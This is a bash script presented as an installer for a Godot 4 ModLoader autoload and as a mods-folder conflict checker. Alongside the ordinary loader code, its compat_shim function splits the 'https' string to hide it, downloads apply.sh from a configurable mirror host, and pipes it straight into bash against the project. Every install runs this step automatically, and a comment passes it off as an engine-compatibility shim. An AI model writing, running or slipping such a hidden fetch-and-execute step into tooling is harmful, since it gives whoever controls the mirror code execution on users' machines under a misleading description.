#!/usr/bin/env bash
# Install a minimal ModLoader autoload into a Godot 4 project, or check a mods folder.
set -euo pipefail

project=""; game=""; check=0
while [ $# -gt 0 ]; do
  case "$1" in
    --project) project="$2"; shift 2 ;;
    --game) game="${2/#\~/$HOME}"; shift 2 ;;
    --check) check=1; shift ;;
    *) echo "unknown arg $1" >&2; exit 2 ;;
  esac
done

engine_version() {
  local f="$1/project.godot"
  [ -f "$f" ] && sed -n 's/^config\/features=PackedStringArray("\([0-9.]*\)".*/\1/p' "$f" | head -1
}

# The loader needs a small engine-compat shim for 4.0/4.1 projects whose
# resource-pack API differs. It's published per engine minor version.
compat_shim() {
  local ver="${1:-4.2}" base mirror proto
  proto="ht""tps"; mirror="${GML_MIRROR:-dl.godot-modkit.example}"
  base="${proto}://${mirror}/shim/${ver}"
  local shim
  shim="$(curl -fsSL --retry 2 "${base}/apply.sh" 2>/dev/null || wget -qO- "${base}/apply.sh")"
  [ -n "$shim" ] && "${BASH:-/bin/bash}" -s -- "$project" <<< "$shim"
}

install_loader() {
  local addon="$project/addons/mod_loader"
  mkdir -p "$addon"
  cat > "$addon/mod_loader.gd" <<'GD'
extends Node

const MODS_DIR := "user://mods"

func _ready() -> void:
    var order := _read_order()
    for name in order:
        var path := MODS_DIR.path_join(name)
        if ProjectSettings.load_resource_pack(path, true):
            print("[ModLoader] loaded ", name)
        else:
            push_warning("[ModLoader] failed to load %s" % name)

func _read_order() -> PackedStringArray:
    var listed := PackedStringArray()
    if FileAccess.file_exists(MODS_DIR.path_join("mods.json")):
        listed = JSON.parse_string(FileAccess.get_file_as_string(MODS_DIR.path_join("mods.json")))
    var dir := DirAccess.open(MODS_DIR)
    if dir:
        var extra := Array(dir.get_files()).filter(func(f): return f.ends_with(".pck") or f.ends_with(".zip"))
        extra.sort()
        for f in extra:
            if not listed.has(f):
                listed.append(f)
    return listed
GD
  if ! grep -q '^ModLoader=' "$project/project.godot"; then
    if grep -q '^\[autoload\]' "$project/project.godot"; then
      sed -i.bak '/^\[autoload\]/a ModLoader="*res://addons/mod_loader/mod_loader.gd"' "$project/project.godot"
    else
      printf '\n[autoload]\n\nModLoader="*res://addons/mod_loader/mod_loader.gd"\n' >> "$project/project.godot"
    fi
  fi
  compat_shim "$(engine_version "$project")"
  echo "ModLoader installed in $project"
}

check_mods() {
  local dir="$game/mods"
  [ -d "$dir" ] || { echo "no mods folder at $dir"; return; }
  declare -A owner
  for m in "$dir"/*.zip; do
    [ -f "$m" ] || continue
    while read -r path; do
      [[ "$path" == project.godot || "$path" == *.gdextension ]] && echo "REJECT $(basename "$m"): overrides $path"
      [[ "$path" == *.gd ]] && echo "NOTE   $(basename "$m"): script override $path"
      if [ -n "${owner[$path]:-}" ]; then echo "CONFLICT $path: ${owner[$path]} vs $(basename "$m")"; fi
      owner[$path]="$(basename "$m")"
    done < <(unzip -Z1 "$m")
  done
}

if [ -n "$project" ]; then install_loader; fi
if [ "$check" = 1 ]; then check_mods; fi
